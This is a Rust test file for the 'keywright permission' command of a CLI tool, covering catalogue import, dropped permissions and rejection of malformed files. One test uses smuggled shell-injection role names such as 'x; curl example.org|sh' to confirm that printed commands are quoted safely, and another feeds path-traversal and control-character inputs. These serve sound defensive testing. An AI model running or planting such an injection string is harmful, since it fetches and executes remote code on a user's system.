//! `keywright permission`: the catalogue, from services' own files.

use std::fs;

use serde_json::json;

use crate::case::Case;

const TOML: &str = r#"
service = "backups"

[[permissions]]
permission = "backups.read"
description = "See backups"

[[permissions]]
permission = "backups.restore"
"#;

#[test]
fn a_file_is_imported_again_and_again_without_harm() {
    let case = Case::new();
    case.run(["permission", "list"]).done().says("keywright permission import");
    fs::write(case.path("permissions.toml"), TOML).unwrap();
    let file = case.text("permissions.toml");
    case.run(["permission", "import", &file, "--dry-run"]).done().says("backups.read").says("Nothing was changed.");
    case.run(["permission", "list"]).done().says("keywright permission import");
    let answer = case.run(["permission", "import", &file, "--json"]).done().json();
    assert_eq!(answer["imports"][0]["service"], "backups");
    assert_eq!(answer["imports"][0]["added"], json!(["backups.read", "backups.restore"]));
    let before = case.run(["export", "audit"]).done().stdout;
    case.run(["permission", "import", &file]).done().says("2 as before");
    assert_eq!(case.run(["export", "audit"]).done().stdout, before, "nothing new, nothing written");
    case.run(["permission", "list"]).done().shows("backups.read").shows("See backups");
    case.run(["permission", "list", "--service", "mail"]).done().says("No such service");
    let list = case.run(["permission", "list", "--json"]).done().json();
    assert_eq!(list["permissions"][1]["permission"], "backups.restore");
}

#[test]
fn what_a_service_drops_is_shown_where_a_role_still_has_it() {
    let case = Case::new();
    let import = |text: &str| case.feed(text.as_bytes(), ["permission", "import", "-"]);
    import(TOML).done();
    let mail = r#"{"service": "mail", "permissions": [{"permission": "mail.read"}]}"#;
    import(mail).done();
    case.run(["role", "add", "Restorer", "--permission", "backups.restore"]).done();
    case.run(["role", "add", "Viewer", "--permission", "*.read"]).done();
    let matrix = case.run(["role", "list", "--matrix"]).done().stdout;
    let row = |name: &str| matrix.lines().find(|line| line.starts_with(name)).unwrap_or_default().to_owned();
    assert!(row("PERMISSION").ends_with("Restorer  Viewer"), "{matrix}");
    assert!(row("backups.read").ends_with("by *"), "{matrix}");
    assert!(row("backups.restore").contains("yes"), "{matrix}");
    assert!(row("*.read").ends_with("yes"), "{matrix}");
    let json = case.run(["role", "list", "--matrix", "--json"]).done().json();
    assert_eq!(json["matrix"]["rows"][0]["cells"], json!(["none", "by_pattern"]));
    let less = TOML.replace("[[permissions]]\npermission = \"backups.restore\"\n", "");
    // A file that names another service by mistake would drop all that one declares: somebody has to want it.
    import(&less).refused(2).says("backups would drop backups.restore (held by Restorer)").says("--yes");
    case.run(["permission", "list"]).done().shows("backups.restore");
    let preview = case.feed(less.as_bytes(), ["permission", "import", "-", "--dry-run"]).done();
    preview.says("gone: backups.restore").says("keywright role edit Restorer").says("Nothing was changed.");
    let import = |text: &str| case.feed(text.as_bytes(), ["permission", "import", "-", "--yes"]);
    import(&less).done().says("gone: backups.restore").says("Restorer still has it");
    // What is gone is no news the next time.
    case.feed(less.as_bytes(), ["permission", "import", "-"]).done().says("1 as before");
    case.run(["permission", "list"]).done().shows("gone: its service dropped it");
    case.run(["role", "edit", "Restorer", "--permission", "mail.read"]).done();
    let list = case.run(["permission", "list"]).done().stdout;
    assert!(!list.contains("backups.restore"), "{list}");
    // And the service itself goes, once no role names what it declares.
    case.run(["role", "edit", "Restorer", "--permission", "backups.read"]).done();
    case.run(["permission", "remove", "backups"]).refused(1).says("Restorer");
    case.run(["role", "edit", "Restorer", "--permission", "mail.read"]).done();
    assert_eq!(case.run(["permission", "remove", "Backups", "--json"]).done().json()["removed"], "backups");
    case.run(["permission", "remove", "backups"]).refused(3).says("keywright permission list");
    case.run(["activity"]).done().shows("Removed the service backups from the catalogue, which declared backups.read");
}

#[test]
fn what_is_printed_to_be_copied_is_one_command() {
    let case = Case::new();
    case.feed(TOML.as_bytes(), ["permission", "import", "-"]).done();
    for name in ["x; curl example.org|sh", "it's", "--vault=evil"] {
        case.run(["role", "add", "--permission", "backups.restore", "--", name]).done();
        let less = TOML.replace("[[permissions]]\npermission = \"backups.restore\"\n", "");
        let run = case.feed(less.as_bytes(), ["permission", "import", "-", "--yes"]).done();
        let command = run.stderr.lines().find_map(|line| line.split_once("keywright ")).unwrap().1;
        // The shell runs the program once, with the role's name as one word.
        let script = format!("\"$0\" {command} --add-permission backups.read");
        let mut shell = std::process::Command::new("sh");
        shell.args(["-c", &script, crate::case::KEYWRIGHT]).env_clear().envs(case.environment());
        let run = crate::case::Run::of(shell.output().unwrap()).done();
        assert!(run.stderr.contains(&format!("Edited the role {name}: backups.read.")), "{command}: {run:?}");
        case.run(["role", "remove", "--", name]).done();
        case.feed(TOML.as_bytes(), ["permission", "import", "-"]).done();
    }
}

#[test]
fn two_files_of_one_service_do_not_drop_each_other() {
    let case = Case::new();
    fs::write(case.path("one.toml"), TOML).unwrap();
    fs::write(case.path("two.toml"), TOML.replace("backups.restore", "backups.write")).unwrap();
    let (one, two) = (case.text("one.toml"), case.text("two.toml"));
    case.run(["permission", "import", &one, &two]).refused(2).says("Two of the files declare backups");
    case.run(["permission", "list"]).done().says("keywright permission import");
}

#[test]
fn files_that_are_none_are_refused_and_nothing_is_lost() {
    let case = Case::new();
    fs::write(case.path("good.toml"), TOML).unwrap();
    let (good, bad) = (case.text("good.toml"), case.text("bad.toml"));
    case.run(["permission", "import", &good]).done();
    let list = case.run(["permission", "list", "--json"]).done().stdout;
    let long = format!("service = \"x\"\n# {}\n", "x".repeat(50 << 20));
    let entry = |permission: &str| format!("service = \"x\"\n[[permissions]]\npermission = \"{permission}\"\n");
    let twice = format!("{}[[permissions]]\npermission = \"x.read\"\n", entry("x.read"));
    for (text, code, words) in [
        (long.as_str(), 2, "1 MiB"),
        ("service = \"x", 2, "Line 1"),
        ("{\"service\": \"x\",", 2, "JSON"),
        ("", 2, "permissions"),
        ("service = \"x\"", 2, "permission"),
        (&twice, 2, "Line 4"),
        (&entry("keywright.write"), 1, "Keywright's own"),
        (&entry("../../etc"), 2, "Line 2"),
        (&entry("X.Read"), 2, "Line 2"),
        (&entry("\u{202e}x"), 2, "Line 2"),
        ("service = \"a\\u0007b\"\n[[permissions]]\npermission = \"x.y\"\n", 2, "Line 1"),
        ("service = 7\n[[permissions]]\npermission = \"x.y\"\n", 2, "Line 1"),
    ] {
        fs::write(case.path("bad.toml"), text).unwrap();
        // All of them or none.
        let run = case.run(["permission", "import", &good, &bad]);
        let shown: String = text.chars().take(60).collect();
        assert!(run.stderr.contains("bad.toml"), "{shown}: {run:?}");
        assert!(run.stderr.len() < 600, "{shown}: {run:?}");
        run.refused(code).says(words);
    }
    fs::write(case.path("bad.toml"), [0xff, 0xfe, 0x00]).unwrap();
    case.run(["permission", "import", &bad]).refused(2).says("UTF-8");
    case.run(["permission", "import", &case.text("none.toml")]).refused(7).says("none.toml");
    case.run(["permission", "import", &case.text("home")]).refused(7);
    assert_eq!(case.run(["permission", "list", "--json"]).done().stdout, list);
}
